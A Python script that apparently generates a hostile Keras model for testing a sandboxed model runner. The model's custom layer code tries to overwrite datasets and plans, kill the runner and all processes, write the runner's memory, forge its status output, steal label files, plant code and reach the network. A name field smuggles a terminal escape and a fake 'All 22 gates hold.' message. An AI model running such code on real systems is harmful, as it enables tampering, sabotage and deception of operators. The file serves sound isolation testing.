"""A model whose own layer attacks whatever it can reach. Run it in the Keras image: `hostile_files.py FOLDER`."""

import sys
from pathlib import Path

import keras
import numpy as np

ATTACKS = '''
import glob, json, os, signal, socket
from pathlib import Path

import keras
import numpy as np

ROOT = "/app/volumes"
KERAS = f"{ROOT}/hostile/keras"
FORGED = json.dumps({"event": "end", "output": "keras.fp32", "status": "ok", "reason": "FORGED"}) + "\\n"


def rewrite(path):
    with open(path, "r+b") as file:
        file.write(b"forged")


def read_labels():
    places = [f"{KERAS}/labels/labels.npy", f"{KERAS}/data/y_test.npy", f"{ROOT}/inputs/hostile-data/files/data.npz"]
    places += [*glob.glob(f"{ROOT}/*/keras/**/labels.npy"), *glob.glob(f"{ROOT}/inputs/**/*.npz", recursive=True)]
    return [place for place in places if os.access(place, os.R_OK) and open(place, "rb").read(1)]


def speak_as_the_runner(pid):
    with open(f"/proc/{pid}/fd/1", "wb", 0) as stream:
        stream.write(FORGED.encode())


ATTEMPTS = {
    "rewrite the data set": lambda: rewrite(f"{KERAS}/dataset/input_0.npy"),
    "rewrite the plan": lambda: rewrite(f"{ROOT}/hostile/plan.json"),
    "remove what is finished": lambda: os.unlink(f"{KERAS}/dataset/artifact.json"),
    "add to what is finished": lambda: open(f"{KERAS}/dataset/more", "w"),
    "write beside it": lambda: os.mkdir(f"{KERAS}/planted"),
    "list the volume": lambda: os.listdir(ROOT),
    "list what is finished": lambda: os.listdir(KERAS),
    "list the labels": lambda: os.listdir(f"{KERAS}/labels"),
    "list the user's data": lambda: os.listdir(f"{ROOT}/inputs/hostile-data/files"),
    "read the labels": read_labels,
    "end the runner": lambda: os.kill(1, signal.SIGTERM),
    "end all": lambda: os.kill(-1, signal.SIGKILL),
    "write the runner's memory": lambda: open("/proc/1/mem", "r+b"),
    "speak as the runner": lambda: speak_as_the_runner(1),
    "plant a file": lambda: open("/tmp/planted", "w"),
    "plant code": lambda: open("/app/shared/planted.py", "w"),
    "reach the network": lambda: socket.create_connection(("192.0.2.1", 80), 2),
}


def attempt(name):
    try:
        found = ATTEMPTS[name]()
    except OSError as error:
        return "refused"
    return "nothing" if found in ([], None) and name == "read the labels" else f"DONE {found}"


for name in ATTEMPTS:
    print("TRIED", name, "->", attempt(name), flush=True)
print("PLANTED", glob.glob("/tmp/planted"), flush=True)


@keras.saving.register_keras_serializable("hostile", "Spy\\x1b[2J\\nAll 22 gates hold.")
class Spy(keras.layers.Layer):
    """Answers perfectly, if only it finds the labels."""

    def call(self, x):
        return x
'''


def main(folder: Path) -> None:
    keras.utils.set_random_seed(7)
    scope: dict = {"keras": keras}
    exec(ATTACKS[ATTACKS.index("@keras.saving") :], scope)
    (folder / "spy.py").write_text(ATTACKS)
    layers = [keras.Input((8,), name="rows"), scope["Spy"](name="spy"), keras.layers.Dense(3, name="answers")]
    keras.Sequential(layers).save(folder / "hostile.keras")
    random = np.random.default_rng(3)
    arrays = {f"x_{split}": random.normal(size=(300, 8)).astype(np.float32) for split in ("train", "test")}
    arrays |= {f"y_{split}": np.arange(300) % 3 for split in ("train", "test")}
    np.savez(folder / "data.npz", **arrays)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
